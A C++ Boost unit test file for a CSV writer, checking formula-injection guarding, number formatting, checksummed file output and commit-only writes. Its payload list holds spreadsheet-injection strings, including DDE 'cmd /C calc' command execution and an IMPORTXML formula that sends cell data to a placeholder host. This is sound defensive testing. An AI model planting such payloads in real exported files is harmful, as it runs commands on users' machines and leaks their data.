#include "app/exchange/csv_reader.h"
#include "app/exchange/csv_writer.h"
#include "app/exchange/file_error.h"

#include <QBuffer>
#include <QCryptographicHash>
#include <QDir>
#include <QFile>
#include <QTemporaryDir>

#include <boost/test/unit_test.hpp>

#include <limits>
#include <ostream>

using namespace pilotage::exchange;
using namespace Qt::StringLiterals;

inline std::ostream &operator<<(std::ostream &out, const QString &text)
{
    return out << text.toStdString();
}

namespace {

/// Forty texts that a spreadsheet would run, or that look as if.
QStringList payloads()
{
    QStringList list{u"=1+1"_s,
                     u"=cmd|' /C calc'!A0"_s,
                     u"=HYPERLINK(\"http://x\",\"y\")"_s,
                     u"=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")"_s,
                     u"=WEBSERVICE(\"http://x\")"_s,
                     u"=DDE(\"cmd\";\"/C calc\";\"x\")"_s,
                     u"=2+5+cmd|' /C calc'!A0"_s,
                     u"+1+1"_s,
                     u"+cmd|' /C calc'!A0"_s,
                     u"-1+1"_s,
                     u"-2+3+cmd|' /C calc'!A0"_s,
                     u"@SUM(1+1)*cmd|' /C calc'!A0"_s,
                     u"@A1"_s,
                     u"\t=1+1"_s,
                     u"\r=1+1"_s,
                     u"\n=1+1"_s,
                     u"\r\n=1+1"_s,
                     u"\t"_s,
                     u"\n"_s,
                     u"＝1+1"_s,
                     u"＋1+1"_s,
                     u"－1+1"_s,
                     u"＠SUM(A1)"_s,
                     u"'=1+1"_s,
                     u"''=1+1"_s,
                     u"'+1"_s,
                     u"'-"_s,
                     u"'@"_s,
                     u"'"_s,
                     u"''"_s,
                     u"'text"_s,
                     u"="_s,
                     u"-"_s,
                     u"--"_s,
                     u"=\"a\"\"b\",\"c\""_s,
                     u"=1;2"_s,
                     u"=1,2"_s,
                     u"=A1\n=B1"_s,
                     u"-\"x\""_s};
    list << QString(QChar(u'\0')) + u"=1"_s;
    return list;
}

bool isDangerous(QStringView text)
{
    return !text.isEmpty() && (text[0].isNull() || QStringView(u"=+-@\t\r\n＝＋－＠").contains(text[0]));
}

} // namespace

BOOST_AUTO_TEST_SUITE(csv_writer)

BOOST_AUTO_TEST_CASE(no_text_reads_as_a_formula_and_all_come_back)
{
    BOOST_TEST(payloads().size() == 40);
    for (const char separator : {',', ';', '\t'}) {
        QByteArray bytes;
        QBuffer buffer(&bytes);
        buffer.open(QIODevice::WriteOnly);
        CsvWriter writer(buffer, {.separator = separator, .withBom = false});
        for (const QString &text : payloads()) {
            writer.text(u"a"_s).text(text).text(u"b"_s);
            writer.endRow();
        }
        writer.commit();
        CsvReader reader(std::string_view(bytes.constData(), std::size_t(bytes.size())), separator);
        for (const QString &text : payloads()) {
            BOOST_REQUIRE(reader.next());
            BOOST_REQUIRE(reader.cells().size() == 3u);
            const std::string_view cell = reader.cell(1);
            const QString read = QString::fromUtf8(cell.data(), qsizetype(cell.size()));
            BOOST_TEST(!isDangerous(read));
            BOOST_TEST((stripGuard(read) == text));
        }
    }
}

BOOST_AUTO_TEST_CASE(numbers_stay_numbers)
{
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    CsvWriter writer(buffer, {.withBom = false, .withCrLf = false});
    writer.number(-1.5).number(-0.0).number(0.1 + 0.2).number(std::numeric_limits<double>::quiet_NaN());
    writer.integer(-7).number(-0.001, 2).number(2.5, 2).empty();
    writer.endRow();
    BOOST_TEST(writer.commit().rows == 1);
    BOOST_TEST(bytes.toStdString() == "-1.5,0,0.30000000000000004,,-7,0.00,2.50,\n");
}

BOOST_AUTO_TEST_CASE(writes_whole_files_with_their_checksum)
{
    const QTemporaryDir folder;
    const QString path = folder.filePath(u"表.csv"_s);
    CsvWriter writer(path);
    writer.header({u"名称"_s, u"value"_s});
    for (int i = 0; i < 20000; ++i) {
        writer.text(u"a \"quoted\", text"_s).integer(i);
        writer.endRow();
    }
    BOOST_TEST(!QFile::exists(path));
    const TableResult result = writer.commit();
    QFile file(path);
    BOOST_REQUIRE(file.open(QIODevice::ReadOnly));
    const QByteArray bytes = file.readAll();
    BOOST_TEST(bytes.startsWith("\xEF\xBB\xBF"));
    BOOST_TEST(result.rows == 20000);
    BOOST_TEST(result.sha256
               == QString::fromLatin1(QCryptographicHash::hash(bytes, QCryptographicHash::Sha256).toHex()));
    const CsvTable table = readCsvTable(path);
    BOOST_TEST(table.rows.size() == 20000u);
    BOOST_TEST(table.header.first() == u"名称"_s);
    BOOST_TEST(table.rows.back().cells[0] == u"a \"quoted\", text"_s);
    BOOST_TEST(table.rows.back().number == 20001);
}

BOOST_AUTO_TEST_CASE(leaves_nothing_without_commit)
{
    const QTemporaryDir folder;
    {
        CsvWriter writer(folder.filePath(u"a.csv"_s));
        writer.text(u"x"_s);
        writer.endRow();
    }
    BOOST_TEST(QDir(folder.path()).entryList(QDir::Files | QDir::Hidden).isEmpty());
    BOOST_CHECK_THROW(CsvWriter(folder.filePath(u"none/a.csv"_s)), FileError);
}

BOOST_AUTO_TEST_SUITE_END()
